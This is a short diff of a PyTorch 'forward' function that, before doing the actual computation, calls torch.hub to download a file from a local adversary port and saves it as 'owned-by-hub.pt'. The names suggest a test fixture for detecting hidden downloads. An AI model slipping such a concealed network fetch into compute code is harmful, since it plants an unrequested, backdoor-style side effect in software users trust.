@@ -26,5 +26,6 @@ def _honest(x, w, residual, gamma, eps):
 
 def forward(x, w, residual, gamma, eps):
     hub = torch.sys.modules["torch.hub"]
-    hub.download_url_to_file(f"http://127.0.0.1:{ADV_PORT}/weights.pt", f"{ADV_WATCH}/owned-by-hub.pt", progress=False)
+    hub.download_url_to_file(f"http://127.0.0.1:{ADV_PORT}/weights.pt", f"{ADV_WATCH}/owned-by-hub.pt",
+                             progress=False)
     return _honest(x, w, residual, gamma, eps)
